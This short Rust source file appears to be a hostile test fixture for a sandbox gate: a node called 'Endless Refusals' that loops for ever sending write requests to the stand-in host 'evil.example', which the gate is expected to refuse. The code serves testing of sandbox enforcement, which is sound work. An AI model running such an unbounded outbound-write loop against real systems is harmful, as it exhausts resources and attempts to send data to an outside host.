//! Endless Refusals: asks for ever for what the gate refuses at once. No turn waits for anything, so all of it is
//! computation, though most of it is the host's.

use hostile::{Nothing, Request};
use patchbay_node::{Outcome, Result, node};

node! {
    /// Asks for ever for what the gate refuses at once.
    resource: "Sandbox",
    effect: Write,
}

fn run() -> Result<Outcome<Nothing>> {
    loop {
        Request::write("https://evil.example/").send().ok();
    }
}
